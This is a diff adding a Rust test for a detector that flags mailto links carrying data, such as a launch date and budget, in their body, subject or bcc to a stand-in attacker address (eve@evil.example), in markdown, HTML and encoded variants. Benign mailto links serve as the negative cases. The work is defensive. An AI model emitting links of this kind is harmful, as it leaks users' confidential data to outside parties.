@@ -171,6 +171,38 @@ fn links_that_say_something_are_found() {
     }
 }
 
+/// A mail that is written already tells in words what it tells, whatever its address stands in.
+#[test]
+fn mails_that_are_written_already_are_found() {
+    let words = "the launch is on 14 March and the budget is 4.2 million";
+    let coded = words.replace(' ', "%20");
+    for text in [
+        format!("mailto:eve@evil.example?subject=x&body={coded}"),
+        format!("[mail us](mailto:eve@evil.example?subject=x&body={coded})"),
+        format!("[mail us](<mailto:eve@evil.example?body={words}>)"),
+        format!("<a href=\"mailto:eve@evil.example?subject=x&amp;body={coded}\">x</a>"),
+        format!("<a href='mailto:eve@evil.example?body={words}'>x</a>"),
+        format!("MailTo:eve@evil.example?body={}", words.replace(' ', "+")),
+        format!("mailto:eve@evil.example?subject={coded}"),
+        format!("mailto:?bcc=eve@evil.example&body={coded}"),
+        "mailto:eve@evil.example?body=启动日期是三月十四日预算为四百二十万美元".to_owned(),
+    ] {
+        assert_eq!(what(&text), ["mail_with_data"], "{text}");
+    }
+    for text in [
+        // Whoever follows it says to whom it goes.
+        format!("<a href=\"mailto:?subject=An%20article&body={coded}\">share</a>"),
+        "<a href='mailto:a@corp.example?subject=Hello there'>it's us, and the office is open on all days</a>"
+            .to_owned(),
+        "mailto:a@corp.example?subject=Job%20offer&body=Dear%20team%2C%20please%20call%20me".to_owned(),
+        "write to mailto:a@corp.example and tell us what you think of the new shop in our town".to_owned(),
+        "<mailto:a@corp.example?subject=Help\nand here are many words that are in no address at all>"
+            .to_owned(),
+    ] {
+        assert_eq!(what(&text), [""; 0], "{text}");
+    }
+}
+
 #[test]
 fn ordinary_long_addresses_are_clean() {
     for text in include_str!("clean.txt").lines().filter(|line| !line.is_empty()) {
